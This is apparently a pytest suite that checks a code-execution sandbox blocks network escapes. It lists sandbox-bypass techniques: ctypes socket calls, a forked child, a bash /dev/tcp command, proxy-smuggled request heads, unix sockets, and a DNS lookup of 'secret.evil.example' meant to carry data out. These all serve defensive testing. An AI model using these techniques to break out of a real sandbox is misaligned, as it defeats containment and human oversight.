"""Attack 4 from a kernel: code that tries to reach the network, or a server on this machine."""

import asyncio
import socket
from pathlib import Path
from textwrap import dedent

import pytest

from tests.attacks.door import Door
from tests.attacks.stage import ENDED, Stage, in_a_cell, rules, run_bare_cell
from tests.attacks.test_network import PROXIED, REFUSED_URLS, SMUGGLED, UNIX, WAYS

pytestmark = pytest.mark.asyncio(loop_scope="module")

NATIVE = {
    "socket": "import socket; socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'x')",
    "a name": "import socket; socket.create_connection(('localhost', {port}), 2).sendall(b'x')",
    "any address": "import socket; socket.create_connection(('0.0.0.0', {port}), 2).sendall(b'x')",
    "an address of six": """
        import socket
        s = socket.socket(socket.AF_INET6)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        s.connect(('::ffff:127.0.0.1', {port}))
        s.sendall(b'x')
    """,
    "without waiting": """
        import select, socket
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(('127.0.0.1', {port}))
        select.select([], [s], [], 2)
        s.sendall(b'x')
    """,
    "fast open": """
        import socket
        s = socket.socket()
        s.sendto(b'x', 0x20000000, ('127.0.0.1', {port}))
    """,
    "ctypes": """
        import ctypes, struct
        libc = ctypes.CDLL(None)
        s = libc.socket(2, 1, 0)
        place = struct.pack('=H', 2) + struct.pack('>H4B', {port}, 127, 0, 0, 1) + bytes(8)
        libc.connect(s, place, 16)
        libc.write(s, b'x', 1)
    """,
    "asyncio": """
        import asyncio
        async def main():
            reader, writer = await asyncio.open_connection('127.0.0.1', {port})
            writer.write(b'x')
            await writer.drain()
        asyncio.run(main())
    """,
    "urllib": """
        import urllib.request as u
        u.build_opener(u.ProxyHandler({{}})).open('http://127.0.0.1:{port}/', timeout=2)
    """,
    "http.client": """
        import http.client
        http.client.HTTPConnection('127.0.0.1', {port}, timeout=2).request('GET', '/')
    """,
    "xmlrpc": "import xmlrpc.client as x; x.ServerProxy('http://127.0.0.1:{port}/').f()",
    "multiprocessing": """
        from multiprocessing.connection import Client
        Client(('127.0.0.1', {port})).send('x')
    """,
    "logging": """
        import logging, logging.handlers
        h = logging.handlers.SocketHandler('127.0.0.1', {port})
        h.emit(logging.makeLogRecord(dict(msg='x')))
    """,
    "a child": "import os; os.system('bash -c \"echo x > /dev/tcp/127.0.0.1/{port}\"')",
    "a fork": """
        import os, socket
        if not os.fork():
            socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'x')
            os._exit(0)
        os.wait()
    """,
}


def as_cell(code: str, **names: object) -> str:
    """Return dedented code with its values inserted."""
    return dedent(code).strip().format(**names)


@pytest.mark.parametrize("command", WAYS)
async def test_no_command_of_a_cell_reaches_a_server(kernel_stage: Stage, door: Door, command: str):
    """`test_network.py` shows that these commands get through without the sandbox."""
    seen = await kernel_stage.cell(in_a_cell(command.format(port=door.port)))

    assert (door.visits, ENDED in seen.text) == (0, True)


@pytest.mark.parametrize("way", NATIVE)
async def test_no_code_reaches_a_server(kernel_stage: Stage, door: Door, way: str):
    code = as_cell(NATIVE[way], port=door.port)

    await kernel_stage.cell(code)
    guarded = door.visits
    await asyncio.to_thread(run_bare_cell, code, kernel_stage)

    assert (guarded, door.visits > 0) == (0, True)


@pytest.mark.parametrize("url", REFUSED_URLS)
async def test_the_proxy_lets_no_host_pass_for_code(kernel_stage: Stage, door: Door, url: str):
    code = "import os; os.environ.pop('no_proxy', 0), os.environ.pop('NO_PROXY', 0)\n" + PROXIED

    seen = await kernel_stage.call("python", {"code": code.format(url=url.format(port=door.port))}, (), "ask")

    assert ("403" in seen.text or "502" in seen.text, "arrived" in seen.text, door.visits) == (True, False, 0)


@pytest.mark.parametrize(
    ("rule", "arrives"),
    [
        ("allow python(domain:127.0.0.1)", True),
        ("allow python(domain:*)", False),
        ("allow python(domain:127.*)", False),
        ("allow bash(domain:127.0.0.1)", False),
        ("allow web_fetch(domain:127.0.0.1)", False),
    ],
)
async def test_only_a_rule_for_code_that_names_the_address_opens_it(
    kernel_stage: Stage, door: Door, rule: str, arrives: bool
):
    code = "import os; os.environ.pop('no_proxy', 0), os.environ.pop('NO_PROXY', 0)\n" + PROXIED
    args = {"code": code.format(url=f"http://127.0.0.1:{door.port}/")}

    seen = await kernel_stage.call("python", args, rules(rule), "ask")

    assert ("arrived" in seen.text, door.visits) == (arrives, int(arrives))


@pytest.mark.parametrize("head", SMUGGLED)
async def test_no_request_of_code_is_smuggled_past_the_proxy(kernel_stage: Stage, door: Door, head: str):
    code = (
        "import os, socket, urllib.parse as p\n"
        "to = p.urlsplit(os.environ['http_proxy'])\n"
        "s = socket.create_connection((to.hostname, to.port), 3); s.settimeout(3)\n"
        f"s.sendall(b'{head.format(port=door.port)}')\n"
        "s.shutdown(socket.SHUT_WR); print(s.recv(999))\n"
    )

    seen = await kernel_stage.cell(code, rules("allow python(domain:allowed.example)"))

    assert ("arrived" in seen.text, "200" in seen.text, door.visits) == (False, False, 0)


@pytest.mark.parametrize("kind", ["abstract", "below /tmp", "outside", "project"])
async def test_no_unix_socket_is_reached_by_code(world: Path, tmp_path: Path, kind: str):
    """Not even one that was opened after the kernel was."""
    stage = Stage(world)
    await stage.cell("x = 1")
    names = {"abstract": f"\0bridle-{world.name}", "below /tmp": str(tmp_path / "door")}
    name = names.get(kind) or str(world / kind / "s")
    door = Door(socket.AF_UNIX, name)
    code = UNIX.format(address=name)

    await stage.cell(code)
    guarded = door.visits
    await asyncio.to_thread(run_bare_cell, code, stage)
    unguarded = door.visits
    door.close()
    await stage.close()

    assert (guarded, unguarded) == (0, 1)


@pytest.mark.parametrize("family", ["AF_PACKET", "AF_VSOCK", "AF_ALG", "AF_BLUETOOTH"])
async def test_code_makes_no_other_kind_of_socket(kernel_stage: Stage, family: str):
    code = f"import socket; socket.socket(socket.{family}, 3 if '{family}' == 'AF_PACKET' else 1)"

    assert (await kernel_stage.cell(code)).text.startswith("Traceback")


async def test_code_looks_up_no_name(kernel_stage: Stage):
    """Names carry data out: a lookup of `secret.evil.example` has already sent it."""
    seen = await kernel_stage.cell("import socket; socket.getaddrinfo('secret.evil.example', 80)")
    alone = await kernel_stage.cell("import socket; print([name for _, name in socket.if_nameindex()])")

    assert ("gaierror" in seen.text, alone.text) == (True, "['lo']")
